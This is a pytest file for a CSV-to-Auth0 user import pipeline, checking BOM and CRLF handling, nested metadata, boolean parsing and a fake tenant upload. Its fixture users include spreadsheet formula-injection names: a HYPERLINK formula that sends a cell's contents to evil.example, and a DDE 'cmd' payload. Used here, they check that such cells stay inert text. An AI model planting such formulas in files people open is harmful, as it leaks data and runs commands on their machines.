"""Users from a spreadsheet: a CSV as Excel or Sheets saves it, through fetch, import-clean and
import, with no extra options.

The fixture has a UTF-8 BOM, CRLF line ends, a quoted cell with a newline, a `,,` tail of
untitled empty columns and a final empty line; its users have formula-like names, quotes,
unicode, zip codes with leading zeros and booleans written TRUE/FALSE/yes/1.
"""

from __future__ import annotations

import io
import os
import subprocess
from typing import Any

import orjson
import pytest

from ndpipe.csvio import read_csv
from ndpipe.errors import DataError
from ndpipe.io import ErrorPolicy, Position, sniff
from ndpipe.ops.import_clean import CleanStats, Rejected, import_clean
from tests.auth0_fixtures import auth0_env_fixture, auth0_server_fixture  # noqa: F401
from tests.auth0_server import DEFAULT_CONNECTION, FakeAuth0
from tests.conftest import FIXTURES, ROOT, environment, records, run_ndpipe

SPREADSHEET = FIXTURES / "csv" / "spreadsheet-users.csv"

# What the import receives: every user of the sheet, typed as Auth0's schema wants.
EXPECTED = [
    {
        "email": "jane.doe@example.com",
        "given_name": "Jane",
        "family_name": "Doe",
        "name": "Jane Doe",
        "email_verified": True,
        "phone_number": "+14155550100",
        "phone_verified": False,
        "blocked": False,
        "app_metadata": {"plan": "premium"},
        "user_metadata": {"address": {"city": "Boston", "zip": "02134"}},
    },
    {
        "email": "bob@example.com",
        "given_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "family_name": "Smith",
        "name": "Bob Smith",
        "email_verified": False,
        "app_metadata": {"plan": "free"},
        "user_metadata": {"address": {"city": "Holtsville", "zip": "00501"}},
    },
    {
        "email": "sean@example.com",
        "given_name": "Seán",
        "family_name": "O'Brien",
        "name": 'Seán "The Boss" O\'Brien',
        "email_verified": True,
        "phone_number": "+442079460958",
        "phone_verified": True,
        "blocked": False,
        "user_metadata": {
            "address": {"city": "Dublin", "zip": "D02 X285"},
            "note": 'said "hi", then left',
        },
    },
    {
        "email": "zoe@example.com",
        "given_name": "Zoë",
        "family_name": "李",
        "name": "李 Zoë",
        "email_verified": True,
        "phone_verified": False,
        "blocked": False,
        "app_metadata": {"plan": "trial"},
        "user_metadata": {
            "address": {"city": "Zürich", "zip": "8001"},
            "note": "line one\nline two",
        },
    },
    {
        "email": "mallory@example.com",
        "given_name": "@SUM(A1)",
        "family_name": "+1+cmd|' /C calc'!A0",
        "name": "-2+3",
        "email_verified": True,
        "blocked": False,
    },
    {"email": "empty@example.com", "email_verified": False},
    {
        "email": "blocked@example.com",
        "given_name": "Bo",
        "family_name": "Blocked",
        "name": "Bo Blocked",
        "email_verified": False,
        "blocked": True,
        "app_metadata": {"plan": "basic"},
        "user_metadata": {"address": {"zip": "0123"}},
    },
]


SERVER_KEYS = {"user_id", "identities", "created_at", "updated_at", "logins_count"}
SERVER_KEYS |= {"name", "nickname"}


def read(data: bytes, **options: Any) -> list[dict[str, Any]]:
    sniffed = sniff(io.BytesIO(data))
    policy = ErrorPolicy("fail")
    return list(read_csv(sniffed.stream, Position("test.csv"), policy, **options))


def pipeline(command: str, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    path = f"{ROOT / 'bin'}{os.pathsep}{os.environ['PATH']}"
    return subprocess.run(
        ["bash", "-o", "pipefail", "-c", command],
        capture_output=True,
        env=environment({**env, "PATH": path, "NDPIPE_POLL_INTERVAL": "0"}),
        cwd=ROOT,
        timeout=60,
    )


def test_the_fixture_is_saved_as_a_spreadsheet_saves_it():
    data = SPREADSHEET.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfemail,")
    assert data.endswith(b",,\r\n\r\n")  # untitled empty columns, then a final empty line
    assert b'"line one\nline two"' in data
    assert data.count(b"\r\n") == 9  # header, 7 users, the empty line


def test_fetch_nests_dotted_titles_and_keeps_cells_as_text():
    result = run_ndpipe("fetch", str(SPREADSHEET))
    assert result.returncode == 0, result.stderr
    users = records(result.stdout)
    assert len(users) == 7
    assert users[0] == {
        "email": "Jane.Doe@Example.com",
        "given_name": "Jane",
        "family_name": "Doe",
        "name": "Jane Doe",
        "email_verified": "TRUE",
        "phone_number": "+14155550100",
        "phone_verified": "FALSE",
        "blocked": "FALSE",
        "app_metadata": {"plan": "premium"},
        "user_metadata": {"address": {"city": "Boston", "zip": "02134"}, "note": None},
    }
    assert users[3]["user_metadata"]["address"]["zip"] == "8001"  # a string, not 8001

    flat = records(run_ndpipe("fetch", "--flat-headers", str(SPREADSHEET)).stdout)
    assert list(flat[0])[-4:] == [
        "app_metadata.plan",
        "user_metadata.address.city",
        "user_metadata.address.zip",
        "user_metadata.note",
    ]
    assert flat[1]["user_metadata.address.zip"] == "00501"


def test_plain_titles_nest_only_when_unambiguous():
    assert read(b"email,a.b\nx,1\n", nest=True) == [{"email": "x", "a": {"b": "1"}}]
    assert read(b"email,a,a.b\nx,1,2\n", nest=True) == [{"email": "x", "a": "1", "a.b": "2"}]
    assert read(b"email,a..b\nx,1\n", nest=True) == [{"email": "x", "a..b": "1"}]
    # the library default nests Auth0 exports only
    assert read(b"email,a.b\nx,1\n") == [{"email": "x", "a.b": "1"}]


def test_untitled_columns_must_be_empty():
    assert read(b"email,,\r\nx,,\r\n") == [{"email": "x"}]
    with pytest.raises(DataError) as error:
        read(b"email,,\nx,,oops\n")
    assert error.value.where == "test.csv:2"
    assert "column 3 has data ('oops') but no title" in str(error.value)
    result = run_ndpipe("fetch", input=b"email,,\nx,,oops\n")
    assert result.returncode == 1
    assert b"stdin:2:" in result.stderr and b"no title" in result.stderr


def clean(given: list[dict[str, Any]]) -> tuple[list[dict[str, Any]], list[Rejected]]:
    rejected: list[Rejected] = []
    out = list(import_clean(given, stats=CleanStats(), on_reject=rejected.append))
    return out, rejected


def test_import_clean_nests_flat_dotted_metadata_keys():
    given = {
        "email": "a@b.com",
        "app_metadata.plan": "pro",
        "user_metadata": {"theme": "dark"},
        "user_metadata.address.zip": "02134",
        "user_metadata.address.city": None,
    }
    out, rejected = clean([given])
    assert rejected == []
    assert out == [
        {
            "email": "a@b.com",
            "user_metadata": {"theme": "dark", "address": {"zip": "02134"}},
            "app_metadata": {"plan": "pro"},
            "email_verified": False,
        }
    ]
    assert given["user_metadata"] == {"theme": "dark"}  # the input is not modified


@pytest.mark.parametrize(
    "given, path",
    [
        ({"user_metadata": {"plan": "a"}, "user_metadata.plan": "b"}, "user_metadata.plan"),
        ({"user_metadata": {"a": 1}, "user_metadata.a.b": "x"}, "user_metadata.a.b"),
        ({"app_metadata": "text", "app_metadata.plan": "x"}, "app_metadata.plan"),
    ],
)
def test_import_clean_refuses_a_dotted_key_that_collides(given, path):
    record = {"email": "a@b.com", **given}
    out, rejected = clean([record])
    assert out == []
    [problem] = rejected[0].problems
    assert (problem.code, problem.path) == ("DOTTED_KEY_COLLISION", path)
    assert rejected[0].record == record


@pytest.mark.parametrize(
    "text, value",
    [
        ("TRUE", True),
        ("FALSE", False),
        ("true", True),
        ("false", False),
        ("1", True),
        ("0", False),
        ("yes", True),
        ("No", False),
        (" True ", True),
    ],
)
def test_import_clean_reads_spreadsheet_booleans(text, value):
    out, _ = clean([{"email": "a@b.com", "email_verified": text, "blocked": text}])
    assert out[0]["email_verified"] is value and out[0]["blocked"] is value


def test_spreadsheet_to_import_chunks(tmp_path):
    result = pipeline(
        f"ndpipe fetch fixtures/csv/spreadsheet-users.csv | ndpipe import-clean"
        f" | ndpipe import --dry-run --out '{tmp_path}/c-{{n}}.json'",
        {},
    )
    assert result.returncode == 0, result.stderr
    assert b"7 read, 7 passed (7 changed), 0 rejected" in result.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["c-1.json"]
    assert orjson.loads((tmp_path / "c-1.json").read_bytes()) == EXPECTED


def test_spreadsheet_to_a_tenant(auth0_server: FakeAuth0, auth0_env: dict[str, str]):
    result = pipeline(
        "ndpipe fetch fixtures/csv/spreadsheet-users.csv | ndpipe import-clean"
        f" | ndpipe import --connection {DEFAULT_CONNECTION}",
        auth0_env,
    )
    assert result.returncode == 0, result.stderr
    assert auth0_server.client_secret.encode() not in result.stdout + result.stderr
    held = {user["email"]: user for user in auth0_server.users_in(DEFAULT_CONNECTION)}
    assert sorted(held) == sorted(user["email"] for user in EXPECTED)
    for expected in EXPECTED:
        user = held[expected["email"]]
        assert {key: user.get(key) for key in expected} == expected
        # nothing else but what the server adds itself
        assert set(user) - set(expected) <= SERVER_KEYS
        assert user["user_id"].startswith("auth0|")
